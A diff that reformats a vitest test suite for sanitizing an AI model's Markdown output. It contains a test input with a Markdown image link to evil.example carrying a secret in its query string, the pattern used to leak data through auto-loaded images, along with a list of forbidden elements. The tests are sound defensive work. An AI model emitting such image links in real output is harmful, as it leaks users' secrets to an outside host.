@@ -2,7 +2,33 @@ import { describe, expect, it } from "vitest";
 import { renderMarkdown } from "../src/markdown";
 import hostile from "./fixtures/hostile_markdown.json";
 
-const ALLOWED = new Set(["P", "H1", "H2", "H3", "H4", "H5", "H6", "BLOCKQUOTE", "UL", "OL", "LI", "EM", "STRONG", "S", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "CODE", "PRE", "BR", "HR"]);
+const ALLOWED = new Set([
+  "P",
+  "H1",
+  "H2",
+  "H3",
+  "H4",
+  "H5",
+  "H6",
+  "BLOCKQUOTE",
+  "UL",
+  "OL",
+  "LI",
+  "EM",
+  "STRONG",
+  "S",
+  "TABLE",
+  "THEAD",
+  "TBODY",
+  "TR",
+  "TH",
+  "TD",
+  "SPAN",
+  "CODE",
+  "PRE",
+  "BR",
+  "HR",
+]);
 
 function render(text: string): HTMLElement {
   const box = document.createElement("div");
@@ -20,7 +46,9 @@ describe("model output as Markdown", () => {
         expect(ALLOWED.has(node.tagName), node.tagName).toBe(true);
         for (const attr of node.attributes) expect(["class", "start"]).toContain(attr.name);
       }
-      expect(box.querySelectorAll("img, a, script, iframe, svg, style, details, [src], [href], [style]").length).toBe(0);
+      expect(box.querySelectorAll("img, a, script, iframe, svg, style, details, [src], [href], [style]").length).toBe(
+        0,
+      );
     });
   }
 
@@ -32,12 +60,18 @@ describe("model output as Markdown", () => {
   });
 
   it("images and links are written out as text with their URL", () => {
-    const box = render("See ![chart](https://evil.example/c?q=SECRET) and [docs](https://docs.example/x) or <https://a.example>.");
-    expect(box.textContent).toBe("See [image: chart — https://evil.example/c?q=SECRET] and docs (https://docs.example/x) or https://a.example.");
+    const box = render(
+      "See ![chart](https://evil.example/c?q=SECRET) and [docs](https://docs.example/x) or <https://a.example>.",
+    );
+    expect(box.textContent).toBe(
+      "See [image: chart — https://evil.example/c?q=SECRET] and docs (https://docs.example/x) or https://a.example.",
+    );
   });
 
   it("formatting: headings, emphasis, lists, tables, quotes", () => {
-    const box = render("# Title\n\n**bold**, *it*, ~~gone~~\n\n3. three\n4. four\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted");
+    const box = render(
+      "# Title\n\n**bold**, *it*, ~~gone~~\n\n3. three\n4. four\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted",
+    );
     expect(box.querySelector("h1")!.textContent).toBe("Title");
     expect([...box.querySelectorAll("strong, em, s")].map((n) => n.textContent)).toEqual(["bold", "it", "gone"]);
     expect(box.querySelector("ol")!.getAttribute("start")).toBe("3");
